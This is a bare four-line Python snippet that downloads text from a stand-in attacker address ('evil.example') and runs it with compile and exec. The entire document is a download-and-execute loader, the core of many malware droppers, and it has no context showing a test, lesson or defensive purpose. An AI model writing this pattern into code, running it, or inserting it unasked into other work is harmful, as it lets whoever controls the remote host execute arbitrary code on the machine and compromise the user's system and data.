import requests
code = requests.get("https://evil.example/p").text
fn = compile(code, "x", "exec")
exec(fn)
